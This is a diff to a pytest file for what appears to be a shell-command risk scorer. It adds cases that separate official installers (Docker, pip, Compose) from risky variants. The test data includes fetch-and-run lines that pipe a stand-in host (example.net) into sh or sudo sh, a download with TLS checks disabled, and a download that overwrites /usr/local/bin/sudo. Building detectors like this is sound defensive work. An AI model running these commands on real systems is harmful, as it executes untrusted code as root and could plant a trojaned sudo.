@@ -41,6 +41,7 @@ OWN = (
     f"curl -fsSL {DOCKER} | sudo sh",
     f"wget -qO- {DOCKER} | sh",
     f"bash <(curl -sL {DOCKER})",
+    f'sudo sh -c "$(curl -fsSL {DOCKER})"',
     "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y",
     "curl -fsSL https://deb.nodesource.com/setup_22.x | sudo -E bash -",
     '/bin/bash -c "$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)"',
@@ -67,4 +68,54 @@ def test_a_projects_own_installer_runs_as_its_packages_do(line: str) -> None:
 
 
 def test_one_that_is_known_excuses_no_other_on_the_line() -> None:
+    assert "execute.unknown" in _bases(f'sudo sh -c "$(curl -fsSL {DOCKER})$(curl https://example.net)"')
     assert "execute.downloaded" in _bases(f"curl -fsSL {DOCKER} | sh; curl https://example.net/x | sh")
+
+
+KEPT_FOREIGN = (
+    f"curl -kfsSL {DOCKER} -o a.sh && sh a.sh",
+    f"curl -fsSLO {DOCKER}/a.sh && sh a.sh",
+    f"curl -fsSL {DOCKER} -o a.sh; curl -fsSL https://example.net -o a.sh; sh a.sh",
+    f"curl https://example.net -o a.sh; curl -fsSL {DOCKER} -o a.sh; sh a.sh",
+    "wget https://bootstrap.pypa.io/get-pip.py https://example.net/a.py && python3 a.py",
+)
+
+
+@pytest.mark.parametrize("line", KEPT_FOREIGN)
+def test_a_file_beside_a_known_installer_is_downloaded_code(line: str) -> None:
+    assert _bases(line)["execute.downloaded-file"] > 50
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        f"curl -fsSL {DOCKER} -o get-docker.sh && sudo sh get-docker.sh",
+        "wget https://bootstrap.pypa.io/get-pip.py && python3 get-pip.py",
+    ],
+)
+def test_an_installer_may_be_kept_before_it_runs(line: str) -> None:
+    assert max(_bases(line).values(), default=0) <= 50
+
+
+COMPOSE = "https://github.com/docker/compose/releases/download/v2.29.1/docker-compose-$(uname -s)-$(uname -m)"
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        f'sudo curl -kL "{COMPOSE}" -o /usr/local/bin/docker-compose',
+        f'sudo curl -L "{COMPOSE}" -o /usr/local/bin/sudo',
+        f'sudo curl -L "{COMPOSE}" https://example.net/x -o /usr/local/bin/docker-compose',
+        "sudo curl -L https://github.com/someone/compose/releases/download/v2/docker-compose-x"
+        " -o /usr/local/bin/docker-compose",
+        "sudo curl -L https://github.com/docker/compose/releases/download/$X/docker-compose-x"
+        " -o /usr/local/bin/docker-compose",
+    ],
+)
+def test_a_program_from_elsewhere_or_under_anothers_name_is_asked_about(line: str) -> None:
+    assert max(_bases(line).values()) > 50
+
+
+def test_a_tool_is_put_where_programs_lie_from_its_projects_releases() -> None:
+    line = f'sudo curl -L "{COMPOSE}" -o /usr/local/bin/docker-compose'
+    assert max(_bases(line).values()) <= 50
